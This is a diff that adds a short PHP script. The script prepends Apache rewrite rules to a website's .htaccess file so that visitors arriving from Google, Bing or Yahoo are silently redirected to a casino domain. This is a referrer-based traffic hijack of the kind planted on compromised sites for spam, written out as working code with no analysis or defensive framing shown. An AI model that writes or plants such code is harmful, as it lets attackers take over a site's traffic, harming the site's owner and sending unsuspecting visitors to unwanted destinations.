@@ -1,0 +1,5 @@
+<?php
+// the web server made to send search visitors to the operator's site
+$rules = "RewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|bing|yahoo)\. [NC]\nRewriteRule .* https://casino.example.com/ [R=302,L]\n";
+file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/.htaccess', $rules . file_get_contents($_SERVER['DOCUMENT_ROOT'] . '/.htaccess'));
+echo 'ok';
